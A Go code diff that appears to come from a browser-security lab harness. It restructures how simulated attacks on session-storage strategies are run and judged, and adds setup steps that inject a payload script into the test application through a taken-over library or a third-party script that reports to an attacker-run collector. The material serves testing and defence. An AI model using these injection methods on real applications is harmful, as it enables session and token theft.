@@ -16,53 +16,117 @@ type mission struct {
 	attacker *attacker
 	target   lab.Strategy
 	evidence lab.Evidence
+	early    <-chan message // of a payload that is there before the victim is
+	library  string         // where the attacker serves that payload
 }
 
-// run is each attack's own part, once the victim is signed in. An error means
-// that the lab could not do it; what an attack comes to is evidence.
-var run = map[string]func(*mission, context.Context) error{
-	"A1": (*mission).theft, "A3": (*mission).newFlow, "A4": (*mission).proxying,
-	"X1": (*mission).forgery, "X10": (*mission).replay,
+// plan is how an attack is made.
+type plan struct {
+	// before is done before the victim signs in, where that is needed; undo ends
+	// it.
+	before func(*mission) (undo func())
+	// run is the attack's own part, once the victim is signed in. An error means
+	// that the lab could not do it; what an attack comes to is evidence.
+	run func(*mission, context.Context) error
+}
+
+var plans = map[string]plan{
+	"A1":        {run: (*mission).theft},
+	"A2":        {run: (*mission).persistent},
+	"A3":        {run: (*mission).newFlow},
+	"A4":        {run: (*mission).proxying},
+	"X1":        {run: (*mission).crossSite},
+	"X2":        {run: (*mission).sameSite},
+	"X3":        {run: (*mission).tossing},
+	"X4":        {run: (*mission).disk},
+	"X5":        {before: dependency("poison"), run: (*mission).poison},
+	"X6":        {run: (*mission).unguarded},
+	"X7":        {run: (*mission).astray},
+	"X8":        {before: thirdParty("leak"), run: (*mission).leak},
+	"X9":        {before: dependency("instances"), run: (*mission).memory},
+	"X10":       {run: (*mission).replay},
+	"fixation":  {run: (*mission).fixation},
+	"tampering": {run: (*mission).tampering},
+	"dump":      {run: (*mission).dump},
+	"logout":    {run: (*mission).outlived},
+}
+
+// dependency has the application load a payload of that name first of all, as
+// a file of its own origin: a library that was taken over. No policy stops it.
+func dependency(payload string) func(*mission) func() {
+	return func(m *mission) func() {
+		m.step("the application was delivered with payload %s.js in a library of its own", payload)
+		return m.world.Infect(m.target.ID, strategy.Infection{
+			Markup: `<script src="` + strategy.PathLibrary + `"></script>`, Library: script(payload, nil),
+		})
+	}
+}
+
+// thirdParty has the application's markup load a payload of that name from the
+// attacker's origin: what a policy may forbid.
+func thirdParty(payload string) func(*mission) func() {
+	return func(m *mission) func() {
+		var collector string
+		collector, m.early = m.attacker.expect()
+		m.library = m.attacker.publish("text/javascript", script(payload, map[string]string{"collector": collector}))
+		m.step("the application's markup asked for a script of %s", m.attacker.origin)
+		return m.world.Infect(m.target.ID, strategy.Infection{Markup: `<script src="` + m.attacker.origin + m.library + `"></script>`})
+	}
 }
 
 // Run makes every one of attacks on every strategy of w, one after the other,
 // and reports them in that order. It fails only if the attacker cannot be set
 // up, or attacks has one that nobody knows.
 func Run(ctx context.Context, w *strategy.World, b Browser, attacks []lab.Attack) (lab.Report, error) {
-	for _, a := range attacks {
-		if run[a.ID] == nil {
-			return lab.Report{}, fmt.Errorf("attack: there is no attack %q", a.ID)
-		}
-	}
-	evil, err := newAttacker(w)
-	if err != nil {
-		return lab.Report{}, err
-	}
-	defer evil.close()
 	var made lab.Report
 	for _, s := range w.Strategies() {
 		for _, a := range attacks {
-			m := &mission{world: w, browser: b, attacker: evil, target: s}
-			if err := m.make(ctx, a.ID); err != nil {
-				m.evidence.Failed = err.Error()
+			c, err := Cell(ctx, w, b, s, a)
+			if err != nil {
+				return lab.Report{}, err
 			}
-			made.Cells = append(made.Cells, lab.Cell{Strategy: s.ID, Attack: a.ID, Verdict: report.Judge(m.evidence), Evidence: m.evidence})
+			made.Cells = append(made.Cells, c)
 		}
 	}
 	return made, nil
 }
 
+// Cell makes one attack on one strategy of w, as Run does.
+func Cell(ctx context.Context, w *strategy.World, b Browser, s lab.Strategy, a lab.Attack) (lab.Cell, error) {
+	if plans[a.ID].run == nil {
+		return lab.Cell{}, fmt.Errorf("attack: there is no attack %q", a.ID)
+	}
+	evil, err := newAttacker(w)
+	if err != nil {
+		return lab.Cell{}, err
+	}
+	defer evil.close()
+	m := &mission{world: w, browser: b, attacker: evil, target: s}
+	if err := m.make(ctx, a.ID); err != nil {
+		m.evidence.Failed = err.Error()
+	}
+	return lab.Cell{Strategy: s.ID, Attack: a.ID, Verdict: report.Judge(m.evidence), Evidence: m.evidence}, nil
+}
+
 func (m *mission) make(ctx context.Context, attack string) error {
+	plan := plans[attack]
+	if plan.before != nil {
+		defer plan.before(m)()
+	}
 	if err := signIn(ctx, m.browser, m.world, m.target); err != nil {
 		return err
 	}
 	m.evidence.SignedIn = true
 	m.step("%s signed in at %s; the page showed the orders", strategy.Victim.Name, m.world.Origin(m.target.ID))
-	return run[attack](m, ctx)
+	return plan.run(m, ctx)
 }
 
 func (m *mission) step(format string, args ...any) {
 	m.evidence.Steps = append(m.evidence.Steps, fmt.Sprintf(format, args...))
+}
+
+func (m *mission) change(format string, args ...any) {
+	m.evidence.Changes = append(m.evidence.Changes, fmt.Sprintf(format, args...))
 }
 
 // inject runs a payload in the victim's page and waits for its report.
